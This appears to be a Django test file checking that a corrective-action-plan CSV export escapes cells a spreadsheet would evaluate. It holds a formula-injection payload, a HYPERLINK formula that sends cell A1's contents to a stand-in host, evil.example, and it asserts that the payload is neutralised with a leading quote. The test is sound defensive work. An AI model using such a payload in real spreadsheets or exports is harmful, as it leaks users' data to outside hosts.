"""The CAP export escapes cells a spreadsheet would evaluate (wsr.core.csv_export)."""

from __future__ import annotations

import csv
import io

from django.test import Client

from tests.audits.conftest import item_in_state
from tests.conftest import login

ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def test_a_formula_in_an_action_reaches_the_export_as_text(personas, finding):
    item = item_in_state(personas, finding, "drafted", action=ATTACK, owner="@owner")
    response = login(Client(), personas.investigator).get(f"/audits/{personas.program.slug}/cap/export.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["cap_item"] for r in rows] == [item.public_id]
    assert rows[0]["action"] == "'" + ATTACK
    assert rows[0]["owner"] == "'@owner"
